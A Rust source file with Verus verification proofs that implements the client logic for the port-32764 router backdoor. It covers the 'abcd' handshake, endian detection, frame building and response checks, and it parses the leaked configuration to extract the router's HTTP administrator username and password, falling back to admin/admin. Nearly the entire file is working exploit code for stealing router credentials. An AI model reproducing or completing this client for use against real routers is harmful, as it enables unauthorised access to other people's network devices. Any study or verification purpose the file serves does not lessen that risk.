//! Client-side logic of the framed TCP protocol ("trigger") that some
//! router firmware exposes on port 32764: endian detection from the
//! handshake reply, request frame construction, response frame
//! validation, and parsing of the retrieved configuration text into
//! credentials.
//!
//! The network transport itself is left to the caller, which connects,
//! writes the byte sequences built here, reads the fixed-size replies,
//! and hands them back to these functions.
use vstd::prelude::*;

verus! {

/// Magic constant identifying valid protocol frames.
pub const MAGIC: u32 = 0x53634D4D;

/// Byte order of all multi-byte integers in one protocol session,
/// fixed by the handshake.
#[derive(Debug, PartialEq, Eq, Structural, Clone, Copy)]
pub enum Endian {
    Little,
    Big,
}

/// The 32-bit value held by four bytes read least-significant first.
pub open spec fn le_word(s: Seq<u8>) -> int
    recommends
        s.len() == 4,
{
    s[0] + s[1] * 0x100 + s[2] * 0x10000 + s[3] * 0x1000000
}

/// The 32-bit value held by four bytes read most-significant first.
pub open spec fn be_word(s: Seq<u8>) -> int
    recommends
        s.len() == 4,
{
    s[3] + s[2] * 0x100 + s[1] * 0x10000 + s[0] * 0x1000000
}

/// The 32-bit value held by four bytes in the session's byte order.
pub open spec fn word_of(endian: Endian, s: Seq<u8>) -> int
    recommends
        s.len() == 4,
{
    match endian {
        Endian::Little => le_word(s),
        Endian::Big => be_word(s),
    }
}

/// Reads the 32-bit word at offset `at` in the session's byte order.
pub fn read_u32(endian: Endian, s: &[u8], at: usize) -> (r: u32)
    requires
        at + 4 <= s@.len(),
    ensures
        r == word_of(endian, s@.subrange(at as int, at + 4)),
{
    let b0 = s[at] as u32;
    let b1 = s[at + 1] as u32;
    let b2 = s[at + 2] as u32;
    let b3 = s[at + 3] as u32;
    let ghost w = s@.subrange(at as int, at + 4);
    assert(w[0] == s@[at as int] && w[1] == s@[at + 1] && w[2] == s@[at + 2] && w[3] == s@[at
        + 3]);
    match endian {
        Endian::Little => b0 + b1 * 0x100 + b2 * 0x10000 + b3 * 0x1000000,
        Endian::Big => b3 + b2 * 0x100 + b1 * 0x10000 + b0 * 0x1000000,
    }
}

/// Encodes a 32-bit word as four bytes in the session's byte order.
pub fn u32_bytes(endian: Endian, v: u32) -> (r: Vec<u8>)
    ensures
        r@.len() == 4,
        word_of(endian, r@) == v,
{
    let b0 = (v % 0x100) as u8;
    let b1 = ((v / 0x100) % 0x100) as u8;
    let b2 = ((v / 0x10000) % 0x100) as u8;
    let b3 = (v / 0x1000000) as u8;
    assert(v == (v % 0x100) + ((v / 0x100) % 0x100) * 0x100 + ((v / 0x10000) % 0x100) * 0x10000 + (
    v / 0x1000000) * 0x1000000) by (bit_vector);
    assert(v / 0x1000000 < 0x100) by (bit_vector);
    let mut r: Vec<u8> = Vec::new();
    match endian {
        Endian::Little => {
            r.push(b0);
            r.push(b1);
            r.push(b2);
            r.push(b3);
        },
        Endian::Big => {
            r.push(b3);
            r.push(b2);
            r.push(b1);
            r.push(b0);
        },
    }
    r
}

/// A separator between configuration fields: NUL or 0x01.
pub open spec fn is_field_sep(b: u8) -> bool {
    b == 0 || b == 1
}

/// The configuration text split on separators, as `str::split` would do
/// it: one (possibly empty) field around every separator.
pub open spec fn split_fields(s: Seq<u8>) -> Seq<Seq<u8>>
    decreases s.len(),
{
    if s.len() == 0 {
        seq![Seq::<u8>::empty()]
    } else {
        let rest = split_fields(s.drop_last());
        if is_field_sep(s.last()) {
            rest.push(Seq::<u8>::empty())
        } else {
            rest.update(rest.len() - 1, rest.last().push(s.last()))
        }
    }
}

/// A split always yields at least one field.
pub proof fn lemma_split_fields_len(s: Seq<u8>)
    ensures
        split_fields(s).len() >= 1,
    decreases s.len(),
{
    if s.len() > 0 {
        lemma_split_fields_len(s.drop_last());
    }
}

/// Position of the first `=` in a field, or the field's length if it has
/// none.
pub open spec fn first_eq(f: Seq<u8>) -> int
    decreases f.len(),
{
    if f.len() == 0 {
        0
    } else if f[0] == 61 {
        0
    } else {
        1 + first_eq(f.skip(1))
    }
}

/// A scan that finds no `=` before `m`, and one at `m` unless the field
/// ends there, has found `first_eq`.
pub proof fn lemma_first_eq_at(f: Seq<u8>, m: int)
    requires
        0 <= m <= f.len(),
        forall|k: int| 0 <= k < m ==> f[k] != 61,
        m < f.len() ==> f[m] == 61,
    ensures
        first_eq(f) == m,
    decreases f.len(),
{
    if f.len() > 0 && f[0] != 61 {
        assert(f.skip(1).len() == f.len() - 1);
        assert(forall|k: int| 0 <= k < m - 1 ==> f.skip(1)[k] == f[k + 1]);
        lemma_first_eq_at(f.skip(1), m - 1);
    }
}

/// True when a field has the form `key=value`.
pub open spec fn field_has_value(f: Seq<u8>) -> bool {
    first_eq(f) < f.len()
}

/// The part of a field before its first `=`.
pub open spec fn field_key(f: Seq<u8>) -> Seq<u8>
    recommends
        field_has_value(f),
{
    f.take(first_eq(f))
}

/// The part of a field after its first `=`.
pub open spec fn field_value(f: Seq<u8>) -> Seq<u8>
    recommends
        field_has_value(f),
{
    f.subrange(first_eq(f) + 1, f.len() as int)
}

/// The bytes of the key `http_username`.
pub open spec fn key_http_username() -> Seq<u8> {
    seq![104u8, 116u8, 116u8, 112u8, 95u8, 117u8, 115u8, 101u8, 114u8, 110u8, 97u8, 109u8, 101u8]
}

/// The bytes of the key `http_password`.
pub open spec fn key_http_password() -> Seq<u8> {
    seq![104u8, 116u8, 116u8, 112u8, 95u8, 112u8, 97u8, 115u8, 115u8, 119u8, 111u8, 114u8, 100u8]
}

/// True when the field assigns a non-empty value to `http_username`.
pub open spec fn sets_username(f: Seq<u8>) -> bool {
    &&& field_has_value(f)
    &&& field_key(f) == key_http_username()
    &&& field_value(f).len() > 0
}

/// True when the field assigns a non-empty value to `http_password`.
pub open spec fn sets_password(f: Seq<u8>) -> bool {
    &&& field_has_value(f)
    &&& field_key(f) == key_http_password()
    &&& field_value(f).len() > 0
}

/// Effect of one field on the captured (username, password) pair: a later
/// assignment overwrites an earlier one, all other fields are ignored.
pub open spec fn apply_field(state: (Seq<u8>, Seq<u8>), f: Seq<u8>) -> (Seq<u8>, Seq<u8>) {
    if sets_username(f) {
        (field_value(f), state.1)
    } else if sets_password(f) {
        (state.0, field_value(f))
    } else {
        state
    }
}

/// The (username, password) byte values captured from the fields in
/// order, starting from empty.
pub open spec fn captured(fields: Seq<Seq<u8>>) -> (Seq<u8>, Seq<u8>)
    decreases fields.len(),
{
    if fields.len() == 0 {
        (Seq::<u8>::empty(), Seq::<u8>::empty())
    } else {
        apply_field(captured(fields.drop_last()), fields.last())
    }
}

/// The credentials reported for a retrieved configuration: the captured
/// values decoded lossily, or the vendor default pair when nothing was
/// captured.
pub open spec fn config_credentials(config: Seq<u8>) -> (Seq<char>, Seq<char>) {
    let state = captured(split_fields(config));
    if state.0.len() == 0 && state.1.len() == 0 {
        ("admin"@, "admin"@)
    } else {
        (crate::text::lossy_of(state.0), crate::text::lossy_of(state.1))
    }
}

/// Default-policy law: when no field of the configuration assigns a
/// non-empty value to `http_username` or `http_password`, nothing is
/// captured, and extraction reports the vendor default pair
/// `("admin", "admin")`.
pub proof fn lemma_default_policy(config: Seq<u8>)
    requires
        forall|k: int|
            0 <= k < split_fields(config).len() ==> !sets_username(
                #[trigger] split_fields(config)[k],
            ) && !sets_password(split_fields(config)[k]),
    ensures
        config_credentials(config) == ("admin"@, "admin"@),
{
    lemma_captured_nothing(split_fields(config));
}

/// Fields none of which assigns a credential capture nothing.
pub proof fn lemma_captured_nothing(fields: Seq<Seq<u8>>)
    requires
        forall|k: int|
            0 <= k < fields.len() ==> !sets_username(#[trigger] fields[k]) && !sets_password(
                fields[k],
            ),
    ensures
        captured(fields) == (Seq::<u8>::empty(), Seq::<u8>::empty()),
    decreases fields.len(),
{
    if fields.len() > 0 {
        assert(forall|k: int|
            0 <= k < fields.len() - 1 ==> #[trigger] fields.drop_last()[k] == fields[k]);
        lemma_captured_nothing(fields.drop_last());
        assert(fields.last() == fields[fields.len() - 1]);
    }
}

/// Position of the first colon in an address, or its length if it has
/// none.
pub open spec fn first_colon(s: Seq<char>) -> int
    decreases s.len(),
{
    if s.len() == 0 {
        0
    } else if s[0] == ':' {
        0
    } else {
        1 + first_colon(s.skip(1))
    }
}

/// The host part of an address: everything before the first colon, or
/// the whole address if it has no port suffix.
pub open spec fn host_part(s: Seq<char>) -> Seq<char> {
    s.take(first_colon(s))
}

/// A scan that finds no colon before `m`, and one at `m` unless the
/// address ends there, has found `first_colon`.
proof fn lemma_first_colon_at(s: Seq<char>, m: int)
    requires
        0 <= m <= s.len(),
        forall|j: int| 0 <= j < m ==> s[j] != ':',
        m < s.len() ==> s[m] == ':',
    ensures
        first_colon(s) == m,
    decreases s.len(),
{
    if s.len() > 0 && s[0] != ':' {
        assert(forall|j: int| 0 <= j < m - 1 ==> s.skip(1)[j] == s[j + 1]);
        lemma_first_colon_at(s.skip(1), m - 1);
    }
}

/// Strips a `:port` suffix from an address, leaving the bare host that
/// the protocol client connects to on its own fixed port.
pub fn host_of(address: &str) -> (r: String)
    ensures
        r@ == host_part(address@),
{
    let n = address.unicode_len();
    let mut k: usize = 0;
    while k < n && address.get_char(k) != ':'
        invariant
            k <= n,
            n == address@.len(),
            forall|j: int| 0 <= j < k ==> address@[j] != ':',
        decreases n - k,
    {
        k = k + 1;
    }
    proof {
        lemma_first_colon_at(address@, k as int);
    }
    address.substring_char(0, k).to_owned()
}

/// A client session of the backdoor protocol against one target host,
/// always on the fixed port 32764.
pub struct Trigger {
    pub host: String,
    pub port: u16,
}

impl Trigger {
    pub fn new(host: &str) -> (r: Self)
        ensures
            r.host@ == host@,
            r.port == 32764,
    {
        Trigger { host: host.to_owned(), port: 32764 }
    }

    /// The four literal bytes `abcd` that open the endian-detection
    /// handshake.
    pub fn handshake_request(&self) -> (r: Vec<u8>)
        ensures
            r@ == seq![97u8, 98u8, 99u8, 100u8],
    {
        let mut r: Vec<u8> = Vec::new();
        r.push(97u8);
        r.push(98u8);
        r.push(99u8);
        r.push(100u8);
        assert(r@ =~= seq![97u8, 98u8, 99u8, 100u8]);
        r
    }

    /// Endian detection on the 12-byte handshake reply: the first four
    /// bytes must hold the magic constant, read little-endian first and
    /// big-endian second; a reply matching neither does not speak this
    /// protocol.
    pub fn parse_handshake_reply(&self, reply: &[u8]) -> (r: Option<Endian>)
        requires
            reply@.len() == 12,
        ensures
            r == Some(Endian::Little) <==> le_word(reply@.subrange(0, 4)) == MAGIC,
            r == Some(Endian::Big) <==> (le_word(reply@.subrange(0, 4)) != MAGIC && be_word(
                reply@.subrange(0, 4),
            ) == MAGIC),
            r is None <==> (le_word(reply@.subrange(0, 4)) != MAGIC && be_word(
                reply@.subrange(0, 4),
            ) != MAGIC),
    {
        let sig_le = read_u32(Endian::Little, reply, 0);
        if sig_le == MAGIC {
            return Some(Endian::Little);
        }
        let sig_be = read_u32(Endian::Big, reply, 0);
        if sig_be == MAGIC {
            return Some(Endian::Big);
        }
        None
    }

    /// Builds the 12-byte request frame header: magic constant, message
    /// identifier, and payload length plus one for the NUL terminator
    /// that always follows the payload on the wire.
    pub fn build_header(&self, endian: Endian, message: u32, payload_len: u32) -> (r: Vec<u8>)
        requires
            payload_len < u32::MAX,
        ensures
            r@.len() == 12,
            word_of(endian, r@.subrange(0, 4)) == MAGIC,
            word_of(endian, r@.subrange(4, 8)) == message,
            word_of(endian, r@.subrange(8, 12)) == payload_len + 1,
    {
        let mut r = u32_bytes(endian, MAGIC);
        let mut mid = u32_bytes(endian, message);
        let mut len = u32_bytes(endian, payload_len + 1);
        let ghost w0 = r@;
        let ghost w1 = mid@;
        let ghost w2 = len@;
        r.append(&mut mid);
        r.append(&mut len);
        assert(r@.subrange(0, 4) =~= w0);
        assert(r@.subrange(4, 8) =~= w1);
        assert(r@.subrange(8, 12) =~= w2);
        r
    }

    /// Validates a 12-byte response frame header: the magic constant
    /// must match and the return code must be zero; only then is the
    /// declared payload length returned, so a rejected response yields
    /// no payload regardless of the length it declares.
    pub fn parse_response_header(&self, endian: Endian, header: &[u8]) -> (r: Option<u32>)
        requires
            header@.len() == 12,
        ensures
            r is Some <==> (word_of(endian, header@.subrange(0, 4)) == MAGIC && word_of(
                endian,
                header@.subrange(4, 8),
            ) == 0),
            r is Some ==> r->0 == word_of(endian, header@.subrange(8, 12)),
    {
        let sig = read_u32(endian, header, 0);
        let ret_code = read_u32(endian, header, 4);
        let ret_len = read_u32(endian, header, 8);
        if sig != MAGIC || ret_code != 0 {
            return None;
        }
        Some(ret_len)
    }

    /// Parses retrieved configuration bytes: splits them into fields on
    /// NUL or 0x01 separators, captures the values assigned to
    /// `http_username` and `http_password`, and applies the
    /// default-credential policy — a configuration that assigns neither
    /// yields the vendor default pair `("admin", "admin")`.
    pub fn extract_credentials(&self, config: &[u8]) -> (r: (String, String))
        ensures
            r.0@ == config_credentials(config@).0,
            r.1@ == config_credentials(config@).1,
    {
        let n = config.len();
        let mut username: Vec<u8> = Vec::new();
        let mut password: Vec<u8> = Vec::new();
        let mut field_start: usize = 0;
        let mut i: usize = 0;
        proof {
            assert(config@.take(0) =~= Seq::<u8>::empty());
            assert(split_fields(Seq::<u8>::empty()) == seq![Seq::<u8>::empty()]);
            assert(split_fields(config@.take(0)).drop_last() =~= Seq::<Seq<u8>>::empty());
            assert(config@.subrange(0, 0) =~= Seq::<u8>::empty());
        }
        while i < n
            invariant
                field_start <= i <= n,
                n == config@.len(),
                split_fields(config@.take(i as int)).last() == config@.subrange(
                    field_start as int,
                    i as int,
                ),
                (username@, password@) == captured(split_fields(config@.take(i as int)).drop_last()),
            decreases n - i,
        {
            let ghost pre = config@.take(i as int);
            let ghost sf = split_fields(pre);
            proof {
                lemma_split_fields_len(pre);
                assert(config@.take(i + 1) =~= pre.push(config@[i as int]));
                assert(config@.take(i + 1).drop_last() =~= pre);
            }
            let b = config[i];
            if b == 0 || b == 1 {
                process_field(config, field_start, i, &mut username, &mut password);
                proof {
                    assert((username@, password@) == captured(sf));
                    assert(split_fields(config@.take(i + 1)) == sf.push(Seq::<u8>::empty()));
                    assert(sf.push(Seq::<u8>::empty()).drop_last() =~= sf);
                    assert(config@.subrange(i + 1, i + 1) =~= Seq::<u8>::empty());
                }
                field_start = i + 1;
            } else {
                proof {
                    let upd = sf.update(sf.len() - 1, sf.last().push(config@[i as int]));
                    assert(split_fields(config@.take(i + 1)) == upd);
                    assert(upd.drop_last() =~= sf.drop_last());
                    assert(upd.last() == sf.last().push(config@[i as int]));
                    assert(sf.last().push(config@[i as int]) =~= config@.subrange(
                        field_start as int,
                        i + 1,
                    ));
                }
            }
            i = i + 1;
        }
        proof {
            assert(config@.take(n as int) =~= config@);
            lemma_split_fields_len(config@);
        }
        process_field(config, field_start, n, &mut username, &mut password);
        assert((username@, password@) == captured(split_fields(config@)));
        if username.len() == 0 && password.len() == 0 {
            ("admin".to_owned(), "admin".to_owned())
        } else {
            (
                crate::text::lossy_string(username.as_slice()),
                crate::text::lossy_string(password.as_slice()),
            )
        }
    }
}

/// True when the bytes of `s` between `start` and `end` spell
/// `http_username`.
fn is_username_key(s: &[u8], start: usize, end: usize) -> (r: bool)
    requires
        start <= end <= s@.len(),
    ensures
        r == (s@.subrange(start as int, end as int) == key_http_username()),
{
    let ghost key = s@.subrange(start as int, end as int);
    if end - start != 13 {
        assert(key.len() != 13 && key_http_username().len() == 13);
        return false;
    }
    let r = s[start] == 104 && s[start + 1] == 116 && s[start + 2] == 116 && s[start + 3] == 112
        && s[start + 4] == 95 && s[start + 5] == 117 && s[start + 6] == 115 && s[start + 7] == 101
        && s[start + 8] == 114 && s[start + 9] == 110 && s[start + 10] == 97 && s[start + 11]
        == 109 && s[start + 12] == 101;
    proof {
        if r {
            assert(key =~= key_http_username());
        } else {
            assert(key != key_http_username()) by {
                if key == key_http_username() {
                    assert(forall|k: int| 0 <= k < 13 ==> key[k] == key_http_username()[k]);
                }
            }
        }
    }
    r
}

/// True when the bytes of `s` between `start` and `end` spell
/// `http_password`.
fn is_password_key(s: &[u8], start: usize, end: usize) -> (r: bool)
    requires
        start <= end <= s@.len(),
    ensures
        r == (s@.subrange(start as int, end as int) == key_http_password()),
{
    let ghost key = s@.subrange(start as int, end as int);
    if end - start != 13 {
        assert(key.len() != 13 && key_http_password().len() == 13);
        return false;
    }
    let r = s[start] == 104 && s[start + 1] == 116 && s[start + 2] == 116 && s[start + 3] == 112
        && s[start + 4] == 95 && s[start + 5] == 112 && s[start + 6] == 97 && s[start + 7] == 115
        && s[start + 8] == 115 && s[start + 9] == 119 && s[start + 10] == 111 && s[start + 11]
        == 114 && s[start + 12] == 100;
    proof {
        if r {
            assert(key =~= key_http_password());
        } else {
            assert(key != key_http_password()) by {
                if key == key_http_password() {
                    assert(forall|k: int| 0 <= k < 13 ==> key[k] == key_http_password()[k]);
                }
            }
        }
    }
    r
}

/// Applies one field of the configuration text to the captured pair.
fn process_field(s: &[u8], start: usize, end: usize, username: &mut Vec<u8>, password: &mut Vec<
    u8,
>)
    requires
        start <= end <= s@.len(),
    ensures
        (final(username)@, final(password)@) == apply_field(
            (old(username)@, old(password)@),
            s@.subrange(start as int, end as int),
        ),
{
    let ghost field = s@.subrange(start as int, end as int);
    let mut j: usize = start;
    while j < end && s[j] != 61
        invariant
            start <= j <= end,
            end <= s@.len(),
            forall|k: int| start <= k < j ==> s@[k] != 61,
        decreases end - j,
    {
        j = j + 1;
    }
    proof {
        assert(forall|k: int| 0 <= k < j - start ==> field[k] != 61);
        lemma_first_eq_at(field, j - start);
    }
    if j == end {
        assert(!field_has_value(field));
        return ;
    }
    assert(field_has_value(field));
    assert(field_key(field) =~= s@.subrange(start as int, j as int));
    assert(field_value(field) =~= s@.subrange(j + 1, end as int));
    if j + 1 == end {
        assert(field_value(field).len() == 0);
        return ;
    }
    if is_username_key(s, start, j) {
        assert(sets_username(field));
        let value = vstd::slice::slice_subrange(s, j + 1, end);
        *username = vstd::slice::slice_to_vec(value);
    } else if is_password_key(s, start, j) {
        assert(!sets_username(field));
        assert(sets_password(field));
        let value = vstd::slice::slice_subrange(s, j + 1, end);
        *password = vstd::slice::slice_to_vec(value);
    } else {
        assert(!sets_username(field) && !sets_password(field));
    }
}

} // verus!
